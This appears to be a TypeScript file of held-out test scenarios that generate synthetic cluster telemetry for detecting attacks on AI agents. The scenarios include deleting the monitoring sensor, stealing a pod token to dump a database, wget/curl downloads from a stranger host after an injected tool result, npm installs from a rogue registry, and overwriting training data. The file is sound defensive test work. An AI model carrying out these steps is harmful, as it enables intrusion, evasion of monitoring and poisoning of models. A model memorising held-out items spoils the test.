import { cloudTrail, s3Line } from "../payloads/cloud.ts";
import { falco, kubeArmor, kubernetesAudit, tetragonConnect, tetragonExec, tetragonFile } from "../payloads/cluster.ts";
import { hubDownload } from "../payloads/registry.ts";
import { postgres, postgresRefused } from "../payloads/stores.ts";
import type { Scenario } from "../scenarios/scenario.ts";
import {
  afterExchange,
  byAgent,
  byPerson,
  HOUR_MS,
  INJECTION,
  MINUTE_MS,
  played,
  roleOf,
  times,
} from "../scenarios/steps.ts";

/** Never read by whoever writes rules. */
export const FROZEN_CLUSTER: readonly Scenario[] = [
  {
    id: "frozen-sensor-removed",
    family: "source-silent",
    variant: "loud",
    title: "The sensors' daemon set is deleted, and they fall silent",
    withinMinutes: 240,
    about: (cast) => ["kubernetes-audit", "tetragon", ...byPerson(cast)],
    play: ({ atMs, random, person }) => ({
      signals: [
        kubernetesAudit(atMs, random, {
          user: person.mail,
          verb: "delete",
          resource: "daemonsets",
          group: "apps",
          namespace: "kube-system",
          name: "tetragon",
          address: person.address,
        }),
      ],
      silence: { source: "tetragon", fromMs: atMs, untilMs: atMs + 5 * HOUR_MS },
    }),
  },
  {
    id: "frozen-imds-from-pod",
    family: "stolen-pod-secret",
    variant: "subtle",
    title: "A process in a pod reads the mounted token; an hour later the database is asked with it from outside",
    withinMinutes: 120,
    about: (cast) => [cast.stranger, ...byAgent(cast), roleOf(cast), `rag_${cast.agent.name}`],
    play: (cast) =>
      played(
        tetragonFile(cast.atMs, cast.random, cast.agent, {
          binary: "/usr/bin/cat",
          path: "/var/run/secrets/kubernetes.io/serviceaccount/token",
          parent: "/bin/sh",
        }),
        times(3, 20_000, (offsetMs) => [
          postgresRefused(cast.atMs + HOUR_MS + offsetMs, cast.random, `rag_${cast.agent.name}`, cast.stranger),
        ]),
        postgres(cast.atMs + HOUR_MS + 90_000, cast.random, {
          user: `rag_${cast.agent.name}`,
          address: cast.stranger,
          class: "READ",
          command: "SELECT",
          object: "public.chunks",
          text: "SELECT * FROM chunks",
          rows: 90_000,
        }),
      ),
  },
  {
    id: "frozen-egress-host",
    family: "first-seen",
    variant: "subtle",
    title: "An agent's own process connects, once a minute, to an address it never knew",
    historyDays: 10,
    withinMinutes: 180,
    about: (cast) => [cast.stranger, ...byAgent(cast)],
    play: ({ atMs, random, agent, stranger }) =>
      played(
        times(10, MINUTE_MS, (offsetMs) => [
          tetragonConnect(atMs + offsetMs, random, agent, {
            binary: "/usr/local/bin/python",
            arguments: "app.py",
            address: stranger,
          }),
        ]),
      ),
  },
  {
    id: "frozen-kubearmor-shell",
    family: "exchange-to-shell",
    variant: "loud",
    title: "After an injected tool result, a download tool is stopped in the container, twice",
    withinMinutes: 30,
    about: byAgent,
    play: (cast) =>
      played(
        afterExchange(cast, [{ ...INJECTION, provenance: "tool-result" }], (atMs) => [
          kubeArmor(atMs, cast.agent, {
            policy: "block-download-tools",
            operation: "Process",
            resource: `/usr/bin/wget http://${cast.stranger}/x`,
            process: "/usr/bin/wget",
            action: "Block",
            severity: "8",
          }),
          kubeArmor(atMs + 3_000, cast.agent, {
            policy: "block-download-tools",
            operation: "Process",
            resource: `/usr/bin/curl http://${cast.stranger}/x`,
            process: "/usr/bin/curl",
            action: "Block",
            severity: "8",
          }),
          tetragonExec(atMs + 6_000, cast.random, cast.agent, {
            binary: "/usr/bin/python3",
            arguments: "-c import urllib.request",
            parent: "/bin/sh",
          }),
        ]),
      ),
  },
  {
    id: "frozen-npm-and-remote-code",
    family: "runtime-download",
    variant: "loud",
    title: "A model with code of its own is fetched and a module installed, in a running agent",
    withinMinutes: 60,
    about: (cast) => [...byAgent(cast), "user:serving", "quick-org/quick-embed"],
    play: ({ atMs, random, agent, stranger }) =>
      played(
        hubDownload(atMs, {
          repo: "quick-org/quick-embed",
          file: "modeling_quick.py",
          user: "serving",
          address: agent.address,
          bytes: 9_000,
        }),
        tetragonExec(atMs + 5_000, random, agent, {
          binary: "/usr/bin/npm",
          arguments: `install --registry http://${stranger} left-helper`,
          parent: "/bin/sh",
        }),
        falco(atMs + 6_000, random, {
          rule: "Launch Package Management Process in Container",
          priority: "Error",
          agent,
          command: "npm install left-helper",
          tags: ["process", "mitre_persistence"],
        }),
      ),
  },
  {
    id: "frozen-dataset-overwritten",
    family: "poisoned-document",
    variant: "loud",
    title: "Training data is overwritten by an agent's role, and a fine-tune reads it the same day",
    withinMinutes: 240,
    about: (cast) => [roleOf(cast), "training-data", ...byAgent(cast)],
    play: (cast) =>
      played(
        times(4, 15_000, (offsetMs, at) => [
          s3Line(cast.atMs + offsetMs, cast.random, {
            bucket: "training-data",
            operation: "REST.PUT.OBJECT",
            key: `tickets/2026/part-${String(at)}.parquet`,
            by: `arn:aws:sts::123456789012:assumed-role/${roleOf(cast)}/i-0abc`,
            address: cast.agent.address,
            bytes: 5_000_000,
          }),
        ]),
        cloudTrail(cast.atMs + 2 * HOUR_MS, cast.random, {
          by: { role: "train", session: "job" },
          call: "sagemaker:CreateTrainingJob",
          address: "10.50.0.9",
          parameters: { trainingJobName: "support-llm-77" },
        }),
      ),
  },
];
